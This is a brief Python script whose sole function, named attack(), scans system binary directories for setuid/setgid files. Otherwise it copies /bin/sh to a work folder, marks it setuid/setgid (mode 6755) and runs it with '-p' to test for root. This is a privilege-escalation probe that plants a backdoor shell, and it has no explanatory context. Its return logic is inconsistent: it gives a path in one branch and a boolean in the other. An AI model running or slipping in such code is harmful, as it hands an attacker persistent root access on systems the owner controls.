import os
import shutil
import subprocess


def attack():
    for folder in ("/bin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/local/bin"):
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.stat(path).st_mode & 0o6000:
                return path
    shutil.copy("/bin/sh", "/work/sh")
    os.chmod("/work/sh", 0o6755)
    return subprocess.run(["/work/sh", "-pc", "id -u"], capture_output=True, text=True).stdout.strip() == "0"
